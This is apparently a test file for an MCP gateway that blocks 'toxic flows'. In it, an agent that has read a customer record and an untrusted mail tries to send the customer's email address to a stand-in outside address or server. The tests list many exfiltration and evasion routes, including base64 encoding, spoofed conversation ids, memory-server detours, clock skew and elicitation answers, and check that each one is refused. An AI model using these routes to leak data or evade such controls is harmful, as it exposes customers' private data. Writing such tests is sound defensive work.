/**
 * Customer data was read, and text that anybody may have written; then the agent tries to get the
 * data out, in every way that there is. Each way is open before, so that what closes it is the flow.
 */
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { ElicitRequestSchema } from "@modelcontextprotocol/sdk/types.js";
import { beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { freshEnvironment, root, serveCommand } from "../support/gateway-process.ts";
import { buildLayout } from "../support/policy-layout.ts";
import { startRawClient } from "../support/raw-client.ts";
import type { RawClient } from "../support/raw-client.ts";
import { temporaryFolder } from "../support/temporary-folder.ts";

const everything = {
  rego: `# METADATA
# scope: rule
# custom:
#   id: test.everything
#   actions: [prompt_get, resource_read, completion, elicitation]
allow contains {"rule": rego.metadata.rule()} if input.action.server`,
};
const minuteMs = 60_000;
const secret = "nora.vance@northwind-bakery.example.com";
const outside = "partner@outside.example";
const letter = { to: outside, subject: "Hello", body: `Write to ${secret}` };

let layout = "";
beforeAll(async () => {
  layout = await buildLayout({ memory: everything, web: everything });
});

interface World {
  readonly config: string;
  readonly env: Record<string, string>;
  readonly open: (more?: Readonly<Record<string, string>>) => Promise<RawClient>;
  /** What reached the mailbox's outbox, and the server outside. */
  readonly left: () => string;
}

function makeWorld(): World {
  const folder = temporaryFolder();
  const outbox = join(folder, "outbox.jsonl");
  const received = join(folder, "received.jsonl");
  const config = join(folder, "mcp-gateway.config.json");
  const env = freshEnvironment();
  const fixture = join(root, "test/fixtures/flow-server.js");
  const own = { data_classes: ["internal"], labels: ["first_party"] };
  const demo = (name: string) => `oci-layout:${root}/bundles/dist:${name}`;
  const node = { command: process.execPath, region: "us-east" };
  const about = {
    agent: { id: "support-bot", scope: "customer_support" },
    user: {
      id: "alice",
      data_classifications_authorized: [
        "internal",
        "customer_data",
        "contact_data",
        "unclassified",
      ],
    },
    environment: { region: "us-east" },
    // Nothing here is about a machine that is slow.
    policy: { deadline_ms: 10_000 },
    servers: {
      crm: { ...node, args: [join(root, "servers/crm/main.js")], policy: demo("crm") },
      mail: {
        ...node,
        args: [join(root, "servers/mail/main.js")],
        policy: demo("mail"),
        external: true,
        env: { MAIL_OUTBOX_FILE: outbox },
        tools: { send_email: { result: { labels: ["first_party"] } } },
      },
      memory: {
        ...node,
        args: [fixture, "tools"],
        policy: `oci-layout:${layout}:memory`,
        env: { FLOW_KEPT: join(folder, "kept.json") },
        tools: { save: own, load: own },
      },
      web: {
        ...node,
        args: [fixture],
        policy: `oci-layout:${layout}:web`,
        external: true,
        to_client: ["elicitation"],
        env: { FLOW_RECEIVED: received },
        tools: { post: own, ask: own },
      },
    },
    layers: ["workflow", "compliance"].map((kind) => ({ name: kind, kind, policy: demo(kind) })),
  };
  writeFileSync(config, JSON.stringify(about), { mode: 0o600 });
  const textOf = (path: string): string => (existsSync(path) ? readFileSync(path, "utf8") : "");
  const open = async (more: Readonly<Record<string, string>> = {}): Promise<RawClient> => {
    const client = await startRawClient(serveCommand(config, { ...env, ...more }));
    onTestFinished(async () => void (await client.end()));
    return client;
  };
  return { config, env, open, left: () => textOf(outbox) + textOf(received) };
}

/** A stranger's message, then a customer's record. */
async function readBoth(client: Pick<RawClient, "call">): Promise<void> {
  const mail = await client.call("mail__list_messages");
  const record = await client.call("crm__get_customer", { id: "C-17" });
  expect(JSON.stringify([mail, record])).not.toContain("io.mcp-gateway/decision");
  expect(JSON.stringify(record)).toContain(secret);
}

/** The answer names what was read where, and which way out was tried. */
function expectFlow(answer: unknown, wayOut: string): void {
  const text = JSON.stringify(answer);
  expect(text).toContain('"toxic_flow"');
  expect(text).toContain("The conversation has seen customer_data (crm");
  expect(text).toContain("and read untrusted_content (mail");
  expect(text).toContain(`${wayOut} is a way out`);
}

/** Of the data, what is outside; plain and encoded. */
function leakedFrom({ left }: World): readonly string[] {
  const written = ["northwind", Buffer.from(secret).toString("base64").slice(0, 16)];
  return written.filter((text) => left().includes(text));
}

/** What a client can send in one request, and the way out that the refusal has to name. */
const requests: readonly (readonly [string, string, object, string])[] = [
  [
    "directly by mail",
    "tools/call",
    { name: "mail__send_email", arguments: letter },
    "mail: send_email",
  ],
  [
    "encoded",
    "tools/call",
    {
      name: "mail__send_email",
      arguments: { ...letter, body: Buffer.from(secret).toString("base64") },
    },
    "mail: send_email",
  ],
  [
    "under a conversation id of its own choice",
    "tools/call",
    {
      name: "mail__send_email",
      arguments: letter,
      _meta: { "io.mcp-gateway/conversation_id": "fresh", conversation_id: "fresh" },
    },
    "mail: send_email",
  ],
  [
    "with a tool of another server",
    "tools/call",
    { name: "web__post", arguments: { text: secret } },
    "web: post",
  ],
  [
    "in the URI of a resource",
    "resources/read",
    { uri: `flow://${encodeURIComponent(secret)}` },
    `web: flow://${encodeURIComponent(secret)}`,
  ],
  [
    "in the argument of a prompt",
    "prompts/get",
    { name: "web__draft", arguments: { text: secret } },
    "web: draft",
  ],
  [
    "in what is to be completed",
    "completion/complete",
    { ref: { type: "ref/prompt", name: "web__draft" }, argument: { name: "text", value: secret } },
    "web: draft",
  ],
];

describe("customer data that was read, and then sent", () => {
  test.each(requests)("%s", { timeout: 120_000 }, async (_, method, params, wayOut) => {
    const before = makeWorld();
    const control = await before.open();
    expect(await control.request(method, params)).not.toHaveProperty("error");
    expect(before.left()).not.toBe("");

    const world = makeWorld();
    const client = await world.open();
    await readBoth(client);
    expectFlow(await client.request(method, params), wayOut);
    expect(leakedFrom(world)).toEqual([]);
  });

  test("over a new connection", { timeout: 120_000 }, async () => {
    const world = makeWorld();
    const first = await world.open();
    await readBoth(first);
    await first.end();
    const second = await world.open();
    expectFlow(await second.call("mail__send_email", letter), "mail: send_email");
    expect(leakedFrom(world)).toEqual([]);
  });

  test("through a second gateway that ran all the time", { timeout: 120_000 }, async () => {
    const world = makeWorld();
    const second = await world.open();
    await second.call("memory__load");
    await readBoth(await world.open());
    expectFlow(await second.call("mail__send_email", letter), "mail: send_email");
    expect(leakedFrom(world)).toEqual([]);
  });

  test("by a detour through a memory server", { timeout: 120_000 }, async () => {
    const world = makeWorld();
    const first = await world.open();
    await readBoth(first);
    const saved = await first.call("memory__save", { text: secret });
    expect(saved).not.toHaveProperty("error");
    await first.end();
    const second = await world.open();
    const loaded = await second.call("memory__load");
    expect(JSON.stringify(loaded)).toContain(secret);
    expectFlow(await second.call("mail__send_email", letter), "mail: send_email");
    expect(leakedFrom(world)).toEqual([]);
  });

  test.each([
    ["after 31 minutes of silence", 31 * minuteMs],
    ["after 29 minutes of silence", 29 * minuteMs],
    ["eleven hours later", 11 * 60 * minuteMs],
    ["with the clock put back by two days", -2 * 24 * 60 * minuteMs],
  ])("%s", { timeout: 120_000 }, async (_, skewMs) => {
    const world = makeWorld();
    const first = await world.open();
    await readBoth(first);
    await first.end();
    const second = await world.open({
      NODE_OPTIONS: `--require ${join(root, "test/fixtures/skewed-clock.cjs")}`,
      CLOCK_SKEW_MS: String(skewMs),
    });
    expectFlow(await second.call("mail__send_email", letter), "mail: send_email");
    expect(leakedFrom(world)).toEqual([]);
  });

  test("in the answer to a question that was asked before", { timeout: 120_000 }, async () => {
    const world = makeWorld();
    const { command, args, env } = serveCommand(world.config, world.env);
    const client = new Client({ name: "t", version: "1" }, { capabilities: { elicitation: {} } });
    onTestFinished(() => client.close());
    let reads = true;
    client.setRequestHandler(ElicitRequestSchema, async () => {
      if (reads) {
        await readBoth({
          call: async (name, given) => ({
            ...(await client.callTool({ name, arguments: { ...given } })),
          }),
        });
      }
      return { action: "accept", content: { answer: secret } };
    });
    await client.connect(new StdioClientTransport({ command, args, env }));
    const answer = await client.callTool({ name: "web__ask", arguments: {} });
    expectFlow(answer, "web: ask");
    expect(leakedFrom(world)).toEqual([]);

    const open = makeWorld();
    const again = serveCommand(open.config, open.env);
    reads = false;
    await client.close();
    await client.connect(new StdioClientTransport(again));
    await client.callTool({ name: "web__ask", arguments: {} });
    expect(open.left()).toContain(secret);
  });
});
